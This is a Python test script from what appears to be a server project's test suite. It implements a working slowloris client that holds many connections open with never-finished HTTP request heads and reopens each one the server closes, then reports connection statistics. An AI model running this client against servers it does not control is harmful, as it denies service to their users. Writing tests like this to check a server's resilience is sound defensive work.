"""A slowloris client, run as its own process (its own interpreter lock, as an attacker has):
holds ``n`` connections to (host, port), each with a partial request head that grows by a
byte every ``pace`` seconds, and reopens each one as soon as the server closes it, for
``seconds``. Prints a JSON summary: connections opened, closed by the server, and the most
held open at once.

    python tests/slowloris.py HOST PORT [--n 80] [--seconds 20] [--pace 1.0] [--source 127.0.0.1]
"""
from __future__ import annotations

import argparse
import errno
import json
import selectors
import socket
import sys
import time

HEAD = b"POST /v1/completions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
FILLER = b"X-Slow: " + b"a" * 4000         # never ends: no CRLF, so the head is never complete


def main(argv=None) -> int:
    p = argparse.ArgumentParser()
    p.add_argument("host")
    p.add_argument("port", type=int)
    p.add_argument("--n", type=int, default=80)
    p.add_argument("--seconds", type=float, default=20.0)
    p.add_argument("--pace", type=float, default=1.0)
    p.add_argument("--source", default=None, help="source address to connect from")
    a = p.parse_args(argv)

    sel = selectors.DefaultSelector()
    stats = {"opened": 0, "closed_by_server": 0, "connect_failed": 0, "max_open": 0}
    sent: dict = {}                 # socket -> bytes of FILLER sent so far

    def open_one():
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if a.source:
            s.bind((a.source, 0))
        s.setblocking(False)
        err = s.connect_ex((a.host, a.port))
        if err not in (0, errno.EINPROGRESS):
            stats["connect_failed"] += 1
            s.close()
            return
        sel.register(s, selectors.EVENT_WRITE)
        sent[s] = -1                # -1: the partial head is not sent yet
        stats["opened"] += 1

    def drop(s):
        sel.unregister(s)
        sent.pop(s, None)
        s.close()

    end = time.monotonic() + a.seconds
    next_byte = time.monotonic() + a.pace
    for _ in range(a.n):
        open_one()
    while time.monotonic() < end:
        for key, events in sel.select(timeout=0.05):
            s = key.fileobj
            if events & selectors.EVENT_READ:
                try:
                    data = s.recv(65536)
                except OSError:
                    data = b""
                if not data:        # the server closed it: reopen at once
                    stats["closed_by_server"] += 1
                    drop(s)
                    open_one()
                    continue
            if events & selectors.EVENT_WRITE and sent.get(s) == -1:
                try:
                    s.send(HEAD)
                    sent[s] = 0
                    sel.modify(s, selectors.EVENT_READ)
                except OSError:
                    stats["connect_failed"] += 1
                    drop(s)
                    open_one()
        stats["max_open"] = max(stats["max_open"], len(sent))
        if time.monotonic() >= next_byte:
            next_byte += a.pace
            for s, k in list(sent.items()):
                if 0 <= k < len(FILLER):
                    try:
                        s.send(FILLER[k:k + 1])
                        sent[s] = k + 1
                    except OSError:
                        pass
    for s in list(sent):
        drop(s)
    print(json.dumps(stats))
    return 0


if __name__ == "__main__":
    sys.exit(main())
